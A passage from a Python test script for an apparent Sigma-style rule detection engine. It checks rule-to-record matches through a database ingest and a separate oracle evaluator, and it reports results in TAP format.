    ok(found == [('all', 7), ('in a part', 1), ('in several parts', 1), ('in several parts', 2), ('in several parts', 3), ('in several parts', 5), ('in several parts', 6),
                 ('in several parts', 7), ('in several parts', 8), ('over the cut', 3)], f'a script is matched as a whole, and not twice {more}', found)
c = os.path.join(folder, 'scripts.db')
run('ingest', '-c', c, scripts)
done = run('detect', '-c', c, '--format', 'jsonl', '--rules', r)
ok(sorted((h['rule_title'], h['record']) for h in map(json.loads, done.stdout.splitlines())) == found, 'the same over a case', done.stdout + done.stderr)

# ---- an oracle apart from the engine, on generated rules and events ----
try:
    import yaml
    done = subprocess.run([sys.executable, TOP + '/tests/oracle/sigma.py', '-k', KONSEKI, '--correlations', '20260101', '60'], capture_output=True, text=True)
    ok(done.returncode == 0, 'correlations agree with the plain evaluator', done.stdout + done.stderr[-500:])
    for extra in ([], ['--plain']):
        done = subprocess.run([sys.executable, TOP + '/tests/oracle/sigma.py', '-k', KONSEKI] + extra + ['--generate', '20260101', '60'], capture_output=True, text=True)
        ok(done.returncode == 0, 'the engine agrees with the plain evaluator' + (' without its automaton' if extra else ''), done.stdout + done.stderr[-500:])
except ImportError:
    print(f'ok {number + 1} - the plain evaluator # SKIP no python3-yaml')
    number += 1

shutil.rmtree(folder)
print(f'1..{number}')
sys.exit(failed != 0)
